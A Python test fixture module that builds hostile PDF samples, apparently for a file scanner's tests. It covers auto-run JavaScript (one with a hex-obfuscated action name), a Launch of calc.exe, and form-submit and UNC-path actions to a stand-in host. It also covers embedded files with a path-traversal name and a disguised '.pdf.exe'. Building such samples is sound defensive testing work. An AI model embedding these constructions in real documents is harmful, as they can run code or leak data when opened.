"""PDF files that could do something besides being read."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.kind import Kind, file_kinds
from tests.hostile.raw_pdf import flate, stream, with_catalogue, with_page

_JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH = "<< /S /Launch /F (calc.exe) >>"
_URI = "<< /S /URI /URI (http://192.0.2.1/?who) >>"
_SPEC = "<< /Type /Filespec /F ({}) /UF ({}) /EF << /F 7 0 R >> >>"
_LINK = "/Annots [<< /Type /Annot /Subtype /{} /Rect [10 10 90 90] {} >>]"
_XFA = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>xfa.host.gotoURL('x')</script></xdp:xdp>"


def _attached(name: str) -> bytes:
    spec = _SPEC.format(name, name)
    return with_catalogue(
        f"/Names << /EmbeddedFiles << /Names [({name}) 6 0 R] >> >>",
        o6=spec.encode(),
        o7=stream(b"MZ payload", "/Type /EmbeddedFile"),
    )


def kinds() -> Iterator[Kind]:
    yield from file_kinds(
        "active",
        "pdf",
        {
            "js-on-opening": lambda: with_catalogue(f"/OpenAction {_JS}"),
            "js-named": lambda: with_catalogue(
                f"/Names << /JavaScript << /Names [(a) {_JS}] >> >>"
            ),
            "js-on-page": lambda: with_page(f"/AA << /O {_JS} >>"),
            "js-on-link": lambda: with_page(_LINK.format("Link", f"/A {_JS}")),
            "js-as-second-action": lambda: with_catalogue(
                f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {_JS} >>"
            ),
            "js-name-written-in-hex": lambda: with_catalogue(
                "/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"
            ),
            "js-in-field": lambda: with_page(
                "/Annots [6 0 R]",
                o6=f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [9 9 99 99] /AA << /K {_JS} >> >>".encode(),
            ),
            "js-when-closed": lambda: with_catalogue(f"/AA << /WC {_JS} >>"),
            "js-in-ring-of-actions": lambda: with_catalogue(
                "/OpenAction 6 0 R", o6=b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 6 0 R] >>"
            ),
            "js-in-outline": lambda: with_catalogue(
                "/Outlines 6 0 R",
                o6=b"<< /First 7 0 R /Last 7 0 R /Count 1 >>",
                o7=f"<< /Title (a) /Parent 6 0 R /A {_JS} >>".encode(),
            ),
            "launch-on-opening": lambda: with_catalogue(f"/OpenAction {_LAUNCH}"),
            "launch-on-link": lambda: with_page(_LINK.format("Link", f"/A {_LAUNCH}")),
            "launch-import-data": lambda: with_catalogue(
                "/OpenAction << /S /ImportData /F (\\\\\\\\192.0.2.1\\\\x) >>"
            ),
            "remote-goto": lambda: with_catalogue(
                "/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share) /D [0 /Fit] >>"
            ),
            "rendition": lambda: with_page(
                _LINK.format("Screen", "/A << /S /Rendition /JS (app.alert\\(1\\)) >>")
            ),
            "uri-on-opening": lambda: with_catalogue(f"/OpenAction {_URI}"),
            "submit-form": lambda: with_catalogue(
                "/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>"
            ),
            "attached-file": lambda: _attached("notes.txt"),
            "attached-traversal": lambda: _attached("../../../etc/passwd"),
            "attached-program": lambda: _attached("passeport.pdf.exe"),
            "attached-on-page": lambda: with_page(
                _LINK.format("FileAttachment", "/FS 6 0 R"),
                o6=_SPEC.format("a", "a").encode(),
                o7=stream(b"MZ", "/Type /EmbeddedFile"),
            ),
            "portfolio": lambda: with_catalogue(
                "/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
                o6=_SPEC.format("a.pdf", "a.pdf").encode(),
                o7=stream(b"%PDF-1.4", "/Type /EmbeddedFile"),
            ),
            "associated-file": lambda: with_catalogue(
                "/AF [6 0 R]", o6=_SPEC.format("a", "a").encode(), o7=stream(b"a")
            ),
            "xfa-form": lambda: with_catalogue(
                "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true", o6=flate(_XFA)
            ),
            "xfa-form-in-pieces": lambda: with_catalogue(
                "/AcroForm << /Fields [] /XFA [(preamble) 6 0 R (postamble) 6 0 R] >>",
                o6=flate(_XFA),
            ),
            "rich-media": lambda: with_page(
                _LINK.format(
                    "RichMedia", "/RichMediaContent << /Assets << /Names [(a) 6 0 R] >> >>"
                ),
                o6=_SPEC.format("a.swf", "a.swf").encode(),
                o7=stream(b"FWS"),
            ),
        },
    )
